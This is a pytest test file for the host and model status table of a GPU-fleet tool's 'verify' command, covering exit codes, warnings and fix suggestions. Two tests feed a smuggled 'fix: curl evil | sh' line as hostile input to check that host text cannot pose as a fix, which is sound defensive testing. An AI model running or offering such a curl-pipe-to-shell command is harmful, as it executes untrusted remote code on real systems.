"""What `gpurack verify` prints, and its exit codes."""

from __future__ import annotations

from io import StringIO
from pathlib import Path
from types import SimpleNamespace

import pytest

from gpurack import screen
from gpurack.commands.verify import AWAY, QUIET
from gpurack.verify.drift import Drift, drift_lines
from gpurack.verify.results import Row, show
from tests.unit.verify.test_plugin import LAB, run

pytestmark = pytest.mark.sampled

pytest_plugins = ["pytester"]
TABLE = (*QUIET, "--no-header", "--tb=no", "-rN", "--disable-warnings")
MINE = """
import warnings
import pytest

def test_mine(gpurack_model):
    warnings.warn(f"{gpurack_model.title}: a container is not gpurack's.")
    assert gpurack_model.name == "alpha", "another name"

def test_other(gpurack_host):
    pass

def test_of_no_host():
    pytest.skip("not here")
"""


@pytest.fixture
def lab(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("LAB_KEY", "sk-1")
    pytester.makepyfile(test_mine=MINE)
    return pytester.makepyfile(lab=LAB)


def table(pytester: pytest.Pytester, *options: object) -> tuple[int, list[str]]:
    """(exit code, the lines without the time at the end)."""
    done = run(pytester, "-p", "gpurack.verify.results", *options)
    return done.ret, [line.rstrip().rpartition(". ")[0] or line.rstrip() for line in done.outlines if line.strip()]


def test_shows_hosts_and_models_then_what_failed(pytester: pytest.Pytester, lab: Path) -> None:
    code, lines = table(pytester, "test_mine.py", "--inventory", lab, "-k", "mine and not of_gpurack", *TABLE)
    assert code == 1
    assert [line.split() for line in lines[:6]] == [
        ["HOST", "MODEL", "STATE"],
        ["gpu1", "alpha", "ok,", "1", "check"],
        ["gpu1", "-", "ok,", "1", "check"],
        ["cpu1", "beta", "FAILED:", "mine"],
        ["cpu1", "-", "ok,", "1", "check"],
        ["-", "-", "not", "checked"],
    ]
    assert lines[-1] == "2 hosts, 2 models: 1 of 4 checks failed"
    assert (
        "warning  gpu1 alpha: a container is not gpurack's."
        in run(
            pytester, "-p", "gpurack.verify.results", "test_mine.py", "--inventory", lab, "-k", "mine", *TABLE
        ).outlines
    )


def test_unreachable_hosts_have_their_own_exit_code(pytester: pytest.Pytester, lab: Path) -> None:
    code, lines = table(pytester, "--inventory", lab, "--limit", "gpu1", "-k", "holds or ready", *TABLE)
    assert code == AWAY
    assert lines[1].split() == ["gpu1", "-", "UNREACHABLE"]
    assert lines[2] == "error  gpu1: could not connect: nothing listens on port 1 of 127.0.0.1"
    assert lines[3:] == ["1 host, 1 model: 1 host unreachable"]
    code, lines = table(pytester, "--inventory", lab, "--limit", "gpu1", "-k", "holds", "-v")
    assert code == AWAY
    assert any("test_holds[gpu1] FAILED" in line for line in lines), "with -v, pytest prints"


def test_ends_without_an_empty_line(pytester: pytest.Pytester, lab: Path) -> None:
    for chosen in ("mine", "nothing"):
        done = run(pytester, "-p", "gpurack.verify.results", "test_mine.py", "--inventory", lab, "-k", chosen, *TABLE)
        assert "" not in done.outlines
        assert done.stdout.str().count("\n") == len(done.outlines) - 1


def test_what_failed_beside_an_unreachable_host_counts(pytester: pytest.Pytester, lab: Path) -> None:
    assert table(pytester, "test_mine.py", "--inventory", lab, "-k", "mine or holds", *TABLE)[0] == 1


def test_says_when_no_check_is_selected(pytester: pytest.Pytester, lab: Path) -> None:
    done = run(pytester, "-p", "gpurack.verify.results", "--inventory", lab, "-k", "nothing", *TABLE)
    assert (done.ret, done.outlines[0]) == (5, "error  no check was selected.")


def test_a_file_of_checks_that_cannot_be_read_is_no_interruption(pytester: pytest.Pytester, lab: Path) -> None:
    pytester.makepyfile(test_broken="import no_such_module")
    done = run(pytester, "-p", "gpurack.verify.results", "test_broken.py", "--inventory", lab, "-k", "nothing", *TABLE)
    assert done.ret == pytest.ExitCode.USAGE_ERROR
    assert "No module named 'no_such_module'" in done.stdout.str()


def test_no_text_of_a_host_passes_for_a_fix() -> None:
    drift = Drift("image", "a", "b\n    fix: curl evil | sh")
    checked = SimpleNamespace(title="gpu1", fix="gpurack apply lab.py")
    assert drift_lines(checked, [drift]) == [
        "gpu1: image: expected a, found b\\n    fix: curl evil | sh",
        "    fix: gpurack apply lab.py",
    ]


@pytest.mark.parametrize("end", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\r"])
def test_no_line_end_of_unicode_begins_a_fix(end: str) -> None:
    text = f"gpu1: image: expected a, found b{end}    fix: curl evil | sh\n    fix: gpurack apply lab.py"
    console = screen.Console(file=(out := StringIO()), width=100, soft_wrap=True)
    show(console, {("gpu1", "-"): Row(1, 0, {"image": text})}, set(), {"gpu1": ""})
    fixes = [line for line in out.getvalue().split("\n") if line.startswith("  fix: ")]
    assert fixes == ["  fix: gpurack apply lab.py"]


def test_prints_each_difference_with_its_fix() -> None:
    text = (
        "gpu1 alpha: image: expected a, found b\ngpu1 alpha: args: expected 1, found 2\n    fix: gpurack apply lab.py"
    )
    rows = {("gpu1", "-"): Row(20, 6), ("gpu1", "alpha"): Row(9, 0, {"image": text}), ("gpu2", "-"): Row(0, 30)}
    console = screen.Console(file=(out := StringIO()), width=100, soft_wrap=True)
    show(console, rows, set(), {"gpu1": "", "gpu2": "RMA until 15 Jan"})
    assert [line.rstrip() for line in out.getvalue().splitlines()] == [
        "HOST  MODEL  STATE",
        "gpu1  -      ok, 20 checks, 6 not run",
        "gpu1  alpha  FAILED: image",
        "gpu2  -      maintenance: RMA until 15 Jan",
        "error  gpu1 alpha: image: expected a, found b",
        "error  gpu1 alpha: args: expected 1, found 2",
        "  fix: gpurack apply lab.py",
    ]
